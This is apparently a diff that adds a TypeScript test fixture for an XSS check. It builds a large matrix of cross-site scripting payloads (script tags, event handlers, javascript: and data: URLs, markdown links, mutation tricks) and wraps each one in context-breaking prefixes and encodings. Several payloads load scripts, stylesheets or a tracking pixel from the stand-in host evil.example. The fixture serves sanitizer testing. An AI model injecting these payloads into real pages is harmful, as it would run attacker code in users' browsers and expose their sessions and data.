@@ -1,0 +1,68 @@
+/** What a payload calls when it is executed; the page under test counts it. */
+const call = 'xss()'
+
+const elements = [
+  `<script>${call}</script>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror=${call}>`,
+  `<img src="x" onerror="${call}" />`,
+  `<svg onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<iframe src="javascript:parent.${call}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="javascript:${call}">`,
+  `<body onload=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<video><source onerror=${call}></video>`,
+  `<audio src=x onerror=${call}>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  `<a href="javascript:${call}">here</a>`,
+  `<form action="javascript:${call}"><button>go</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<base href="https://evil.example/">`,
+  `<template><img src=x onerror=${call}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+]
+
+const addresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java\tscript:${call}`,
+  `javascript://example.com/%0A${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `vbscript:${call}`,
+  `https://example.com/"onmouseover="${call}`,
+  `https://example.com/<script>${call}</script>`,
+  `https://evil.example/'style='x`,
+  `https://user:${call}@example.com/`,
+]
+
+const markdown = [
+  `[here](javascript:${call})`,
+  `![x](https://evil.example/pixel.gif)`,
+  `![x](x" onerror="${call})`,
+  `<https://evil.example/"onclick=${call}>`,
+  '`<script>' + call + '</script>`',
+]
+
+const around = [
+  (payload: string) => payload,
+  (payload: string) => `">${payload}`,
+  (payload: string) => `'>${payload}`,
+  (payload: string) => `</textarea></title></script>${payload}`,
+  (payload: string) => `--><!-- ${payload}`,
+  (payload: string) => payload.replaceAll('<', '&lt;'),
+  (payload: string) => payload.replaceAll('<', '\\u003c'),
+  (payload: string) => payload.toUpperCase().replaceAll(call.toUpperCase(), call),
+]
+
+/** Texts that run something or load something from elsewhere wherever one of them is taken for more than text. */
+export const payloads = [...elements, ...addresses, ...markdown].flatMap((payload) => around.map((put) => put(payload)))
+
+/** Those that fit into a name of thirty characters. */
+export const shortPayloads = payloads.filter((payload) => payload.length <= 30)
